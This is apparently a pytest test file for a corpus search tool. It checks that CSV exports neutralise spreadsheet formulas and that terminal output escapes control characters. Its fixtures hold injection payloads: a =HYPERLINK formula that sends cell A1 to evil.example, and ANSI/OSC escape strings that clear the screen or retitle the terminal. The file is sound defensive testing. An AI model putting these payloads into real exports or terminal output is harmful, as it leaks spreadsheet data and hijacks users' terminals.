"""A document's text never acts on the user's tools: no cell of any CSV (the CLI's --csv, the web
export) starts a spreadsheet formula, and no control character from a document reaches the terminal,
in any command's output — while --json keeps the text, and so its offsets, exact."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from starlette.testclient import TestClient
from typer.testing import CliRunner

import searchkit
from searchkit.cli import app
from searchkit.cli.render import printable
from searchkit.text.spreadsheet import FORMULA_STARTS, spreadsheet_cell
from searchkit.web import create_app
from test_cli_serve import REPO

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
FORMULA_TEXTS = ["-发展经济注入测试。", "=1+1注入测试，经济", "@SUM(A1)注入测试经济", "+经济注入测试"]
ESCAPE_ID = "escape\x1b[2J"
ESCAPE_TITLE = "经济报告\x1b]0;PWNED\x07标题"
ESCAPE_TEXT = "经济注入\x1b[2J清屏\x9b31m红\x07响\x7f删\x00空\x08退\x1b]0;PWNED\x07完。"
RECORDS = [
    {"id": "formula", "title": HYPERLINK, "speaker": "+李四", "source": "@来源", "date": "2014-01-01",
     "text": "\n".join([*FORMULA_TEXTS, "前文\t=1+1经济"])},
    {"id": ESCAPE_ID, "title": ESCAPE_TITLE, "speaker": "王\x1b]0;PWNED\x07五", "date": "2015-01-01", "text": ESCAPE_TEXT},
    {"id": "markup", "title": "[/b]标题[bold]", "speaker": "[red]赵六", "date": "2016-01-01", "text": "经济[/]注入测试[link=x]。"},
]
RAW_CONTROLS = [b"\x1b", b"\x07", b"\x00", b"\x08", b"\x7f", b"\r", "\x9b".encode(), "\x9d".encode()]


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory):
    base = tmp_path_factory.mktemp("injection")
    (base / "corpus").mkdir()
    with open(base / "corpus" / "records.jsonl", "w", encoding="utf-8") as out:
        for record in RECORDS:
            out.write(json.dumps(record, ensure_ascii=False) + "\n")
    report = searchkit.update_index([base / "corpus"], base / "ix")
    assert report.skipped == () and report.speeches == len(RECORDS)
    return base / "ix"


def run(index_dir, *args: str) -> bytes:
    result = CliRunner().invoke(app, [*args, "--index", str(index_dir)])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def csv_rows(data: bytes | str) -> list[dict]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


# -- CSV formula injection ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_a_formula_is_quoted_as_text(start):
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell("经济" + start) == "经济" + start  # only at the start
    assert spreadsheet_cell(-0.5) == -0.5 and spreadsheet_cell(3) == 3  # numbers stay numbers
    assert spreadsheet_cell([[0, 2]]) == "[[0, 2]]"


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert is_number(cell) or not cell.startswith(FORMULA_STARTS), (column, cell)  # -0.79 is a number


@pytest.mark.parametrize("command", [
    ["search", "经济", "--csv", "-n", "50"], ["list", "--csv"], ["kwic", "经济", "--csv", "-w", "5"],
    ["trend", "经济", "--by", "speaker", "--csv"], ["similar", "发展经济注入测试。=1+1注入测试", "--csv"],
    ["collocates", "注入测试", "--min-count", "1", "--csv"],
])
def test_cli_csv_neutralizes_formulas(index_dir, command):
    rows = csv_rows(run(index_dir, *command))
    assert rows
    assert_no_formula(rows)


def test_cli_csv_keeps_the_text_behind_one_quote(index_dir):
    rows = csv_rows(run(index_dir, "search", "注入测试", "--csv", "-n", "50"))
    formula = [row for row in rows if row["speech_id"] == "formula"]
    assert {row["title"] for row in formula} == {"'" + HYPERLINK}
    assert {row["speaker"] for row in formula} == {"'+李四"} and {row["source"] for row in formula} == {"'@来源"}
    assert {"'" + text for text in FORMULA_TEXTS} <= {row["text"] for row in formula}
    kwic = csv_rows(run(index_dir, "kwic", "经济", "--csv", "-w", "5", "--title", "HYPERLINK"))
    assert "'\t=1+1" in {row["left"] for row in kwic}  # a context cut mid-paragraph, starting with a tab
    assert_no_formula(csv_rows(run(index_dir, "compare", "--a", "until=2014", "--b", "since=2015", "--min-count", "1", "--csv")))


def test_web_export_neutralizes_formulas(index_dir):
    with TestClient(create_app(index_dir), base_url="http://127.0.0.1:8765") as client:
        response = client.get("/api/export", params={"q": "注入测试", "format": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response.text)
    assert_no_formula(rows)
    assert "'" + HYPERLINK in {row["title"] for row in rows}
    assert {"'" + text for text in FORMULA_TEXTS} <= {row["text"] for row in rows}


# -- terminal escapes --------------------------------------------------------------------------------


def test_printable_is_one_character_for_one():
    assert printable("a\x1b[2Jb\x07c\x9bd") == "a␛[2Jb␇c\ufffdd"
    assert printable("a\nb\tc", one_line=False) == "a\nb\tc" and printable("a\nb\tc") == "a␊b␉c"
    assert len(printable(ESCAPE_TEXT)) == len(ESCAPE_TEXT)


@pytest.mark.parametrize("command", [
    ["search", "经济"], ["search", "经济", "--csv"], ["search", "经济", "--facets", "speaker,speech"],
    ["show", ESCAPE_ID], ["show", ESCAPE_ID, "-p", "1"], ["list"], ["list", "--csv"], ["list", "--sort", "title"],
    ["kwic", "经济"], ["kwic", "经济", "--csv"], ["kwic", "注入", "-w", "40"],
    ["similar", ESCAPE_TEXT], ["similar", ESCAPE_TEXT, "--csv"], ["similar", "--speech", ESCAPE_ID],
    ["trend", "经济", "--by", "speaker"], ["trend", "经济", "--by", "speaker", "--csv"],
    ["collocates", "注入", "--min-count", "1"],
])
def test_no_control_character_from_a_document_reaches_the_terminal(index_dir, command):
    out = run(index_dir, *command)
    assert [c for c in RAW_CONTROLS if c in out] == []
    if b"PWNED" in out:  # the hostile title, speaker or text is among what is shown
        assert "␛".encode() in out  # shown, harmlessly


@pytest.mark.parametrize("command", [["search", "经济", "--json"], ["show", ESCAPE_ID, "--json"], ["kwic", "经济", "--json"],
                                     ["list", "--json"]])
def test_json_escapes_controls_and_keeps_the_text_exact(index_dir, command):
    out = run(index_dir, *command)
    assert [c for c in RAW_CONTROLS if c in out] == []  # C0 by json itself; DEL and C1 (\u009b) too
    objects = [json.loads(line) for line in out.decode("utf-8").splitlines()]
    texts = {o.get("text") for o in objects} | {o.get("title") for o in objects} | {o.get("left", "") + o.get("match", "") for o in objects}
    assert ESCAPE_TITLE in texts or any(ESCAPE_TEXT.startswith(t) for t in texts if t)


def test_json_offsets_still_point_at_the_matches(index_dir):
    for line in run(index_dir, "search", "清屏", "--json").decode("utf-8").splitlines()[:-1]:
        hit = json.loads(line)
        assert hit["text"] == ESCAPE_TEXT
        assert [hit["text"][s:e] for s, e in hit["matches"]] == ["清屏"]


def test_highlights_stay_on_the_match_in_a_colour_terminal(index_dir):
    # With colours on, the only escapes are rich's own styles: none of the document's survive.
    env = {**os.environ, "PYTHONPATH": str(REPO), "FORCE_COLOR": "1", "COLUMNS": "200", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    out = subprocess.run([sys.executable, "-m", "searchkit", "search", "红", "--index", str(index_dir)],
                         capture_output=True, env=env, timeout=60).stdout
    assert b"\x1b[" in out  # styled
    for hostile in (b"\x1b]0;", b"\x1b[2J", b"\x07", "\x9b".encode()):
        assert hostile not in out
    # The highlight covers 红 (after an escape that was one character and still is).
    assert "\x1b[1;30;43m红\x1b[0m".encode() in out or "43m红".encode() in out


def test_rich_markup_in_a_document_is_text(index_dir):
    for command in (["list"], ["search", "经济"], ["show", "markup"], ["kwic", "经济"], ["trend", "经济", "--by", "speaker"]):
        out = run(index_dir, *command).decode("utf-8")
        assert "[red]赵六" in out or "[/]" in out or "[/b]" in out, command
